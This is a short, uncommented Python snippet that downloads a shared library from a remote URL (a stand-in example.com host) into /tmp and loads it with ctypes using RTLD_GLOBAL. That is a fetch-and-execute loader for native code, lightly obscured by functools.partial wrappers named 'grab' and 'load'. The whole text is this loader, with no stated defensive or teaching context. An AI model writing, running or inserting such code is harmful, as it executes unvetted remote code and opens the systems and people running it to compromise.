import ctypes
import functools
import urllib.request

grab = functools.partial(urllib.request.urlretrieve, "https://downloads.example.com/p.so")
load = functools.partial(ctypes.CDLL, mode=ctypes.RTLD_GLOBAL)

place, _ = grab("/tmp/p.so")
lib = load(place)
